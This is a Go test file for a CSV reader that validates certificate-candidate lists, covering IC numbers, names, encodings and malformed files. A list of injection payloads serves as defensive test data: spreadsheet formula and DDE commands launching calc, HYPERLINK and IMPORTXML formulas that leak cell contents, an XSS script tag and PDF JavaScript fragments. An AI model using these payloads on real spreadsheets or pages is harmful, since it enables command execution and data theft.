package ecert_test

import (
	"bytes"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"os"
	"reflect"
	"strings"
	"testing"
	"testing/iotest"
	"time"
	"unicode/utf16"
	"unicode/utf8"

	"github.com/mohor-sign/mohor/ecert"
	"github.com/mohor-sign/mohor/internal/mykad"
)

const (
	header = "nama,no_kp,no_sijil,kod_program,nama_program,tahap,kod_pusat,pusat,batch,tahun,bahasa\n"
	// row has places for name, IC and number.
	rowFormat = "%s,%s,%s,TP-021-3:2013,PEMBUATAN MAKANAN,SKM 3,L01,PUSAT CONTOH,2021/07,072021,ms\n"
)

func row(name, ic, number string) string { return fmt.Sprintf(rowFormat, name, ic, number) }

// readAll reads a list to its end or first error.
func readAll(r io.Reader) (candidates []ecert.Candidate, refused []ecert.Refusal, err error) {
	rd, err := ecert.NewReader(r)
	if err != nil {
		return nil, nil, err
	}
	for {
		c, refusal, err := rd.Next()
		switch {
		case err == io.EOF:
			return candidates, refused, nil
		case err != nil:
			return candidates, refused, err
		case refusal != nil:
			refused = append(refused, *refusal)
		default:
			candidates = append(candidates, c)
		}
	}
}

// one reads a list that must hold one good candidate.
func one(t *testing.T, list string) ecert.Candidate {
	t.Helper()
	got, refused, err := readAll(strings.NewReader(list))
	if err != nil || len(refused) > 0 || len(got) != 1 {
		t.Fatalf("%d candidates, refused %+v, error %v", len(got), refused, err)
	}
	return got[0]
}

func TestReaderReadsCandidate(t *testing.T) {
	want := ecert.Candidate{
		Row: 2, Name: "NOR'AINI BINTI ALI", IC: "920229991234", Number: "S102251979",
		ProgrammeCode: "TP-021-3:2013", ProgrammeName: "PEMBUATAN MAKANAN", Level: ecert.SKM3,
		CentreCode: "L01", CentreName: "PUSAT, CONTOH", Batch: "2021/07", Month: time.July, Year: 2021, Language: ecert.Malay,
	}
	for name, list := range map[string]string{
		"Malay header":   header + "NOR'AINI BINTI ALI,920229991234,S102251979,TP-021-3:2013,PEMBUATAN MAKANAN,SKM 3,L01,\"PUSAT, CONTOH\",2021/07,072021,ms\n",
		"no last LF":     header + "NOR'AINI BINTI ALI,920229991234,S102251979,TP-021-3:2013,PEMBUATAN MAKANAN,SKM 3,L01,\"PUSAT, CONTOH\",2021/07,072021,ms",
		"BOM and CRLF":   "\uFEFF" + strings.ReplaceAll(header, "\n", "\r\n") + "NOR'AINI BINTI ALI,920229-99-1234,s102251979,TP-021-3:2013,PEMBUATAN MAKANAN,skm3,L01,\"PUSAT, CONTOH\",2021/07,072021,BM\r\n",
		"English header": "Language,Year,Batch,Centre,Centre Code,Level,Programme Name,Programme Code,Certificate No.,IC,Name\nms,072021,2021/07,\"PUSAT, CONTOH\",L01,SKM Tahap 3,PEMBUATAN MAKANAN,TP-021-3:2013,S102251979,920229 99 1234,  NOR'AINI\tBINTI\u00A0 ALI \n",
		"all quoted":     strings.ReplaceAll(header, "no_kp", "\"No. Kad Pengenalan\"") + `"NOR'AINI BINTI ALI","920229991234","S102251979","TP-021-3:2013","PEMBUATAN MAKANAN","SKM 3","L01","PUSAT, CONTOH","2021/07","072021","ms"`,
	} {
		if got := one(t, list); !reflect.DeepEqual(got, want) {
			t.Errorf("%s:\n got %+v\nwant %+v", name, got, want)
		}
	}
}

func TestReaderCountsSpreadsheetRows(t *testing.T) {
	list := header + "\n,,,,,,,,,,\n" + row("ALI", "900101991234", "S1000001") + "  \r\n" + row("", "900101991234", "S1000002")
	got, refused, err := readAll(strings.NewReader(list))
	if err != nil || len(got) != 1 || len(refused) != 1 {
		t.Fatalf("%d candidates, refused %+v, error %v", len(got), refused, err)
	}
	if got[0].Row != 4 || refused[0].Row != 6 {
		t.Errorf("rows %d and %d", got[0].Row, refused[0].Row)
	}
}

func TestReaderRefusesRows(t *testing.T) {
	good := row("ALI BIN ABU", "900101991234", "S102251979")
	long := strings.Repeat("Ā", 121)
	for _, tt := range []struct{ row, column, code string }{
		{row("ALI", "900230991234", "S1000001"), "no_kp", ecert.CodeICInvalid},
		{row("ALI", "90010199123", "S1000001"), "no_kp", ecert.CodeICInvalid},
		{row("ALI", "9.00102E+11", "S1000001"), "no_kp", ecert.CodeICInvalid},
		{row("ALI", "9001019912345", "S1000001"), "no_kp", ecert.CodeICInvalid},
		{row("ALI", "９００１０１９９１２３４", "S1000001"), "no_kp", ecert.CodeFieldInvalid},
		{row("ALI", "", "S1000001"), "no_kp", ecert.CodeFieldMissing},
		{row(" \t ", "900101991234", "S1000001"), "nama", ecert.CodeFieldMissing},
		{row("ALI", "900101991234", "s102251979"), "no_sijil", ecert.CodeNumberDuplicate},
		{row("ALI", "900101991234", "S1"), "no_sijil", ecert.CodeFieldInvalid},
		{row("ALI", "900101991234", "../../S100"), "no_sijil", ecert.CodeFieldInvalid},
		{row("ALI", "900101991234", "S10000000000000000001"), "no_sijil", ecert.CodeFieldTooLong},
		{row(long, "900101991234", "S1000001"), "nama", ecert.CodeFieldTooLong},
		{row("ALI \u202Eاب", "900101991234", "S1000001"), "nama", ecert.CodeFieldInvalid},
		{row("AL\u200BI", "900101991234", "S1000001"), "nama", ecert.CodeFieldInvalid},
		{row("AL\u00ADI", "900101991234", "S1000001"), "nama", ecert.CodeFieldInvalid},
		{row("ALI\u2028ABU", "900101991234", "S1000001"), "nama", ecert.CodeFieldInvalid},
		{row("ALI\x07", "900101991234", "S1000001"), "nama", ecert.CodeFieldInvalid},
		{row("\"ALI\nABU\"", "900101991234", "S1000001"), "nama", ecert.CodeFieldInvalid},
		{row("ALI\rABU", "900101991234", "S1000001"), "nama", ecert.CodeFieldInvalid},
		{row("陳大文", "900101991234", "S1000001"), "nama", ecert.CodeFieldInvalid},
		{row("AL\uFFFDI", "900101991234", "S1000001"), "nama", ecert.CodeFieldInvalid},
		{strings.Replace(row("ALI", "900101991234", "S1000001"), "SKM 3", "SKM 4", 1), "tahap", ecert.CodeFieldInvalid},
		{strings.Replace(row("ALI", "900101991234", "S1000001"), "072021", "132021", 1), "tahun", ecert.CodeFieldInvalid},
		{strings.Replace(row("ALI", "900101991234", "S1000001"), "072021", "72021", 1), "tahun", ecert.CodeFieldInvalid},
		{strings.Replace(row("ALI", "900101991234", "S1000001"), "072021", "071066", 1), "tahun", ecert.CodeFieldInvalid},
		{strings.Replace(row("ALI", "900101991234", "S1000001"), ",ms", ",fr", 1), "bahasa", ecert.CodeFieldInvalid},
		{strings.Replace(row("ALI", "900101991234", "S1000001"), "PUSAT CONTOH", "", 1), "pusat", ecert.CodeFieldMissing},
	} {
		got, refused, err := readAll(strings.NewReader(header + good + tt.row + row("ABU", "900101991234", "S9000001")))
		if err != nil || len(got) != 2 || len(refused) != 1 {
			t.Errorf("%q: %d candidates, refused %+v, error %v", tt.row, len(got), refused, err)
			continue
		}
		r := refused[0]
		if r.Row != 3 || r.Column != tt.column || r.Code != tt.code || r.Detail == "" || r.DetailMS == "" {
			t.Errorf("%q: %+v, want column %s, code %s", tt.row, r, tt.column, tt.code)
		}
		if utf8.RuneCountInString(r.Name) > 120 || strings.ContainsAny(r.Name, "\u202E\u200B\n\r\x07") {
			t.Errorf("%q: the refusal shows the name as %q", tt.row, r.Name)
		}
	}
}

func TestReaderSeesNumberOfRefusedRow(t *testing.T) {
	_, refused, err := readAll(strings.NewReader(header + row("ALI", "1", "S1000001") + row("ABU", "900101991234", "S1000001")))
	if err != nil || len(refused) != 2 || refused[1].Code != ecert.CodeNumberDuplicate || !strings.Contains(refused[1].Detail, "row 2") {
		t.Errorf("refused %+v, error %v", refused, err)
	}
}

func utf16File(order binary.AppendByteOrder, s string) []byte {
	var b []byte
	for _, u := range utf16.Encode([]rune("\uFEFF" + s)) {
		b = order.AppendUint16(b, u)
	}
	return b
}

func TestReaderRefusesFiles(t *testing.T) {
	good := row("ALI", "900101991234", "S1000001")
	for name, tt := range map[string]struct {
		list string
		line int
		says string
	}{
		"empty":              {"", 1, "empty"},
		"BOM alone":          {"\uFEFF", 1, "empty"},
		"UTF-16LE":           {string(utf16File(binary.LittleEndian, header+good)), 1, "UTF-16"},
		"UTF-16BE":           {string(utf16File(binary.BigEndian, header+good)), 1, "UTF-16"},
		"UTF-16 without BOM": {string(utf16File(binary.LittleEndian, header+good)[2:]), 1, "NUL"},
		"XLSX":               {"PK\x03\x04rest", 1, "spreadsheet"},
		"Latin-1":            {header + row("JOS\xC9", "900101991234", "S1000001"), 2, "not UTF-8"},
		"surrogate":          {header + row("A\xED\xA0\x80", "900101991234", "S1000001"), 2, "not UTF-8"},
		"NUL":                {header + good + row("A\x00LI", "900101991234", "S1000002"), 3, "NUL"},
		"unbalanced":         {header + good + row("\"ALI", "900101991234", "S1000002"), 3, "never closed"},
		"bare quote":         {header + row("A\"LI", "900101991234", "S1000001"), 2, "quote"},
		"after quote":        {header + row("\"ALI\" ABU", "900101991234", "S1000001"), 2, "after a closing quote"},
		"semicolons":         {strings.ReplaceAll(header, ",", ";") + strings.ReplaceAll(good, ",", ";"), 1, "semicolons"},
		"missing column":     {strings.Replace(header, ",bahasa", "", 1), 1, `"bahasa" is missing`},
		"unknown column":     {strings.Replace(header, "tahap", "gred", 1), 1, `unknown column "gred"`},
		"twice":              {strings.Replace(header, "kod_pusat", "name", 1), 1, "same as column 1"},
		"unnamed column":     {strings.Replace(header, "\n", ",\n", 1), 1, "without a name"},
		"too few":            {header + "ALI,900101991234\n", 2, "2 fields"},
		"too many":           {header + strings.Replace(good, "\n", ",x\n", 1), 2, "more than 11 fields"},
		"many columns":       {strings.Repeat("x,", 70) + "x\n", 1, "more than 64 fields"},
		"too many rows":      {header + strings.Repeat("\n", ecert.MaxRows+1), ecert.MaxRows + 2, "rows"},
		"second header":      {header + good + "\xEF\xBB\xBF" + "\"\n", 3, "quote"},
	} {
		_, _, err := readAll(strings.NewReader(tt.list))
		var refused *ecert.CSVError
		if !errors.As(err, &refused) || !errors.Is(err, ecert.ErrCSV) {
			t.Errorf("%s: error %v", name, err)
			continue
		}
		if refused.Line != tt.line || !strings.Contains(err.Error(), tt.says) || refused.DetailMS == "" {
			t.Errorf("%s: %q in line %d, want %q in line %d", name, err, refused.Line, tt.says, tt.line)
		}
	}
}

// endless repeats a byte for ever and counts what is taken.
type endless struct {
	b     byte
	taken int
}

func (e *endless) Read(p []byte) (int, error) {
	for i := range p {
		p[i] = e.b
	}
	e.taken += len(p)
	return len(p), nil
}

func TestReaderDoesNotBufferEndlessFields(t *testing.T) {
	for _, start := range []string{"", "\"", header, header + "\"", header + "ALI,"} {
		tail := &endless{b: 'A'}
		_, _, err := readAll(io.MultiReader(strings.NewReader(start), tail))
		if !errors.Is(err, ecert.ErrCSV) || !strings.Contains(err.Error(), "10000 bytes") {
			t.Errorf("%q: error %v", start, err)
		}
		if tail.taken > 256<<10 {
			t.Errorf("%q: %d bytes were read", start, tail.taken)
		}
	}
	if _, _, err := readAll(io.MultiReader(strings.NewReader(header), &endless{b: ','})); !errors.Is(err, ecert.ErrCSV) {
		t.Errorf("endless commas: error %v", err)
	}
}

func TestReaderPassesReadErrorsOn(t *testing.T) {
	broken := errors.New("connection lost")
	whole := header + row("ALI", "900101991234", "S1000001")
	for _, n := range []int{0, 2, 20, len(header), len(whole) - 3, len(whole)} {
		_, _, err := readAll(io.MultiReader(strings.NewReader(whole[:n]), iotest.ErrReader(broken)))
		if !errors.Is(err, broken) || errors.Is(err, ecert.ErrCSV) {
			t.Errorf("after %d bytes: error %v", n, err)
		}
	}
	if got, _, err := readAll(iotest.OneByteReader(strings.NewReader(whole))); err != nil || len(got) != 1 {
		t.Errorf("byte by byte: %d candidates, error %v", len(got), err)
	}
}

func TestReaderErrorsAreSticky(t *testing.T) {
	rd, err := ecert.NewReader(strings.NewReader(header + "ALI\n" + row("ABU", "900101991234", "S1000001")))
	if err != nil {
		t.Fatal(err)
	}
	_, _, first := rd.Next()
	_, _, second := rd.Next()
	if first == nil || first != second {
		t.Errorf("%v, then %v", first, second)
	}
}

// formulas are cells spreadsheets would run.
var formulas = []string{
	"=1+1", "+1+1", "-1+1", "@SUM(1+1)", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://x/?\"&A1)", "=DDE(\"cmd\";\"/C calc\";\"x\")",
	"=IMPORTXML(CONCAT(\"http://x/\";A1);\"//a\")", "'=1+1", "\"=1+1", " =1+1", "\t=1+1", "%0A=1+1", "=1+1;", "|=1", "(Tj) ET", "\\)\\(<<>>",
	"<script>alert(1)</script>", "]]>&amp;<x/>", "%PDF-1.7 endstream endobj", "<</JS(app.alert(1))>>",
}

func TestReaderTakesFormulasAsText(t *testing.T) {
	for _, f := range formulas {
		cell := `"` + strings.ReplaceAll(f, `"`, `""`) + `"`
		if got := one(t, header+row(cell, "900101991234", "S1000001")); got.Name != strings.TrimSpace(f) {
			t.Errorf("%q became %q", f, got.Name)
		}
	}
}

// exampleCandidates reads the list shipped as an example.
func exampleCandidates(t testing.TB) []ecert.Candidate {
	t.Helper()
	f, err := os.Open("../examples/candidates.csv")
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	got, refused, err := readAll(f)
	if err != nil || len(refused) != 0 || len(got) != 100 {
		t.Fatalf("%d candidates, refused %+v, error %v", len(got), refused, err)
	}
	return got
}

func TestExampleListIsAwkward(t *testing.T) {
	longest, sixty, english := 0, 0, 0
	for _, c := range exampleCandidates(t) {
		n := utf8.RuneCountInString(c.Name)
		longest = max(longest, n)
		if n == 60 {
			sixty++
		}
		if c.Language == ecert.English {
			english++
		}
		if c.IC[6:8] != "99" {
			t.Errorf("IC %s has a place of birth in use", c.IC.Masked())
		}
	}
	if sixty == 0 || longest < 100 || english < 20 || english > 80 {
		t.Errorf("%d names of 60 characters, longest %d, %d in English", sixty, longest, english)
	}
}

func FuzzReader(f *testing.F) {
	f.Add([]byte(header + row("ALI", "900101991234", "S1000001")))
	f.Add([]byte("\uFEFF" + strings.ReplaceAll(header, "\n", "\r\n") + row("\"A\"\"LI\"", "900101-99-1234", "S1000001") + "\n\"x"))
	f.Add([]byte(header + row("=1+1\u202E", "1", "S1") + row("A\x00", "", "")))
	f.Fuzz(func(t *testing.T, list []byte) {
		got, refused, err := readAll(bytes.NewReader(list))
		if err != nil && !errors.Is(err, ecert.ErrCSV) {
			t.Fatalf("error %v", err)
		}
		numbers := map[string]bool{}
		for _, c := range got {
			if _, err := mykad.Parse(string(c.IC)); err != nil || numbers[c.Number] || c.Name == "" || c.MonthYear() == "" ||
				!utf8.ValidString(c.Name) || strings.ContainsAny(c.Name, "\n\r\x00\u202E") {
				t.Fatalf("accepted %+v", c)
			}
			numbers[c.Number] = true
		}
		for _, r := range refused {
			if r.Row < 2 || r.Column == "" || !strings.HasPrefix(r.Code, "row_") {
				t.Fatalf("refused %+v", r)
			}
		}
	})
}

func BenchmarkReader(b *testing.B) {
	var list strings.Builder
	list.WriteString(header)
	for i := range 10000 {
		list.WriteString(row("MUHAMMAD HAZIQ BIN ABDUL RAHMAN", "900101991234", fmt.Sprintf("S1%08d", i)))
	}
	for b.Loop() {
		if got, _, err := readAll(strings.NewReader(list.String())); err != nil || len(got) != 10000 {
			b.Fatal(len(got), err)
		}
	}
	b.ReportMetric(float64(b.N)*10000/b.Elapsed().Seconds(), "rows/s")
}
